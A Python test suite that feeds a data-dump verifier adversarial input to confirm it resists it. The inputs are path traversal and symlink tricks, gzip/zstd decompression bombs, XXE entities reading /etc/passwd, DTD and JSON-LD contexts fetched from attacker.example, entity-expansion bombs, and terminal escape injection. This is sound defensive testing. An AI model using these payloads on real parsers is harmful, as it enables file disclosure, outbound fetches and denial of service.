"""Dumps made to break, fool or misuse whoever reads them."""

from __future__ import annotations

import gzip
import json
import resource
import socket
from pathlib import Path
from typing import Any, NoReturn

import pytest
import zstandard

from lod.verify import Findings, verify
from lod.verify.listing import Entry, portable
from lod.verify.source import Broken, Source
from tests.verify.dumps import FIRST, SCHEMA, Dump, seal

PATHS = [
    "../geheim.txt",
    "/etc/passwd",
    "turtle/../../geheim.txt",
    "turtle//2026.ttl",
    "./turtle/2026.ttl",
    "turtle/",
    "C:/geheim.txt",
    "turtle\\2026.ttl",
    "turtle/2026\n.ttl",
    "turtle/\x00.ttl",
    "turtle/Straße.ttl",
    "\x1b[2J.ttl",
    "",
    "…",
]


@pytest.fixture
def offline(monkeypatch: pytest.MonkeyPatch) -> None:
    """Whoever opens a connection fails."""

    def refuse(*_args: Any, **_options: Any) -> NoReturn:
        raise AssertionError("a connection was opened")

    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)


@pytest.mark.parametrize("path", PATHS)
def test_no_path_leaves_the_dump(tmp_path: Path, path: str) -> None:
    assert not portable(path)
    (tmp_path / "geheim.txt").write_text("geheim")
    folder = Dump().write(tmp_path / "dump")
    manifest = json.loads((folder / "manifest.json").read_bytes())
    manifest["files"].append({"path": path, "media_type": "text/plain", "bytes": 6, "sha256": "0" * 64})
    seal(folder, manifest)
    verdict = verify(folder, jobs=0, quick=True)
    # Nothing of the file was read: it is reported as missing, not as changed.
    assert {"path-portable", "file-missing"} <= set(verdict.findings.by_rule)
    assert "file-digest" not in verdict.findings.by_rule
    assert not any("\x1b" in line or "\x00" in line for line in verdict.lines())


def test_links_are_not_followed(tmp_path: Path) -> None:
    (tmp_path / "geheim").mkdir()
    (tmp_path / "geheim" / "2026.ttl").write_text("geheim")
    folder = Dump().write(tmp_path / "dump")
    for path in (folder / "turtle").iterdir():
        path.unlink()
    (folder / "turtle").rmdir()
    (folder / "turtle").symlink_to(tmp_path / "geheim")
    rules = verify(folder, jobs=0, quick=True).findings.by_rule
    assert rules["file-kind"] == 1
    assert rules["file-missing"] == 2
    assert "file-digest" not in rules


def test_a_link_that_takes_the_place_of_a_file_later_is_not_followed(tmp_path: Path) -> None:
    (tmp_path / "geheim.txt").write_text("geheim")
    (tmp_path / "a.txt").symlink_to(tmp_path / "geheim.txt")
    with pytest.raises(Broken, match="cannot be read"), Source(tmp_path, Entry("a.txt", "text/plain", 6, "0" * 64)):
        pass  # pragma: no cover - the block is not entered


@pytest.mark.parametrize("told", [None, 1000])
@pytest.mark.parametrize("suffix", [".gz", ".zst"])
def test_a_packed_bomb_is_left_early(tmp_path: Path, suffix: str, told: int | None) -> None:
    bomb = b"\0" * (256 << 20)
    data = gzip.compress(bomb, 9, mtime=0) if suffix == ".gz" else zstandard.ZstdCompressor().compress(bomb)
    (tmp_path / f"a{suffix}").write_bytes(data)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    findings = Findings()
    with Source(tmp_path, Entry(f"a{suffix}", "text/turtle", len(data), "0" * 64, unpacked_bytes=told)) as source:
        with pytest.raises(Broken, match="holds more than the"):
            source.read()
        source.judge(findings)
    assert findings.by_rule == {"file-digest": 1, "unpack": 1}
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100_000


@pytest.mark.parametrize("suffix", [".gz", ".zst"])
def test_a_cut_or_continued_package_is_broken(tmp_path: Path, suffix: str) -> None:
    text = b"<https://a.example/> <https://a.example/> <https://a.example/> .\n" * 1000
    whole = gzip.compress(text, mtime=0) if suffix == ".gz" else zstandard.ZstdCompressor().compress(text)
    for data, good in ((whole, True), (whole[:-9], False), (whole[: len(whole) // 2], False), (whole + b"x", False)):
        (tmp_path / f"a{suffix}").write_bytes(data)
        findings = Findings()
        entry = Entry(f"a{suffix}", "application/n-triples", len(data), "0" * 64, unpacked_bytes=len(text))
        with Source(tmp_path, entry) as source:
            source.judge(findings)
        assert bool(set(findings.by_rule) - {"file-digest"}) is not good


XML = '<!DOCTYPE r [<!ENTITY a "{}">]><newsItem xmlns="http://iptc.org/std/nar/2006-10-01/">&a;</newsItem>'


@pytest.mark.parametrize(
    "text",
    [
        XML.format("aaaa"),
        '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY a SYSTEM "file:///etc/passwd">]><r>&a;</r>',
        '<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd"><r/>',
        "<r>" * 5000 + "</r>" * 5000,
        '<?xml version="1.0" encoding="UTF-7"?>+ADw-r/+AD4-',
    ],
)
@pytest.mark.usefixtures("offline")
def test_xml_reads_and_fetches_nothing(tmp_path: Path, text: str) -> None:
    dump = Dump()
    dump.files["newsml/2026/1_v1.xml"] = text.encode()
    verdict = verify(dump.write(tmp_path), jobs=0, quick=True)
    assert {"item-form", "item-standard"} & set(verdict.findings.by_rule)
    assert "root:" not in "\n".join(verdict.lines())


def test_xml_in_utf_16_is_refused(tmp_path: Path) -> None:
    dump = Dump()
    dump.files["newsml/2026/1_v1.xml"] = XML.format("aaaa").encode("utf-16")
    assert verify(dump.write(tmp_path), jobs=0, quick=True).findings.by_rule["item-form"] == 1


def test_entities_of_rdf_xml_are_refused_before_they_grow(tmp_path: Path) -> None:
    rdf = "http://www.w3.org/1999/02/22-rdf-syntax-ns#"
    more = "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    text = f'<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">{more}]><rdf:RDF xmlns:rdf="{rdf}">&j;</rdf:RDF>'
    dump = Dump(formats=["ntriples", "rdfxml"])
    dump.files["rdfxml/2026.rdf"] = text.encode()
    dump.files["rdfxml/concepts.rdf"] = text.encode()
    rules = verify(dump.write(tmp_path), jobs=0, quick=True).findings.by_rule
    assert rules["syntax"] == 2


@pytest.mark.parametrize(
    "context",
    [
        '"https://schema.org/"',
        '"file:///etc/passwd"',
        '{"@import": "https://attacker.example/context.jsonld"}',
        '[{}, "https://attacker.example/context.jsonld"]',
        '{"n": {"@id": "https://a.example/n", "@context": "https://attacker.example/context.jsonld"}}',
    ],
)
@pytest.mark.usefixtures("offline")
def test_json_ld_fetches_no_context(tmp_path: Path, context: str) -> None:
    dump = Dump()
    document = f'{{"@context": {context}, "@id": "{FIRST}", "n": {{"@id": "{FIRST}"}}}}'
    dump.files["jsonld/2026.jsonld"] = document.encode()
    assert verify(dump.write(tmp_path), jobs=0, quick=True).findings.by_rule["syntax"] == 1


def test_json_that_never_closes_is_a_syntax_error(tmp_path: Path) -> None:
    dump = Dump()
    dump.files["jsonld/2026.jsonld"] = b'{"@graph":[' * 100_000
    assert verify(dump.write(tmp_path), jobs=0, quick=True).findings.by_rule["syntax"] == 1


def test_a_reader_that_breaks_down_is_a_finding(tmp_path: Path) -> None:
    """Nested triple terms overflow the stack of the reader, which ends its process."""
    dump = Dump()
    deep = 200_000
    inner = f"<<( <{FIRST}> <{SCHEMA}about> " * deep + '"x"' + " )>>" * deep
    dump.files["ntriples/2026.nt"] = f"<{FIRST}> <{SCHEMA}about> {inner} .\n".encode()
    verdict = verify(dump.write(tmp_path), jobs=1, quick=True)
    assert verdict.findings.by_rule["reader-crashed"] == 1
    assert not verdict.passed
    assert "ntriples/2026.nt" in next(line for line in verdict.lines() if "reader-crashed" in line)


def test_what_is_printed_does_not_steer_the_terminal(tmp_path: Path) -> None:
    dump = Dump()
    dump.records[0].append(f'<{FIRST}> <{SCHEMA}abstract> "\x1b]0;Titel\x07\u202eRat" .\n')
    lines = list(verify(dump.write(tmp_path), jobs=0, quick=True).lines())
    assert any("\\u001B]0;Titel\\u0007\\u202ERat" in line for line in lines)
    assert all(line.isprintable() for line in lines)


def test_nothing_is_written_and_nothing_stays(dump: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(scratch))
    before = {path: path.stat().st_mtime_ns for path in dump.rglob("*")}
    dump.chmod(0o500)  # as a medium that cannot be written
    verify(dump, jobs=0, quick=True)
    assert {path: path.stat().st_mtime_ns for path in dump.rglob("*")} == before
    assert list(scratch.iterdir()) == []
    dump.chmod(0o700)
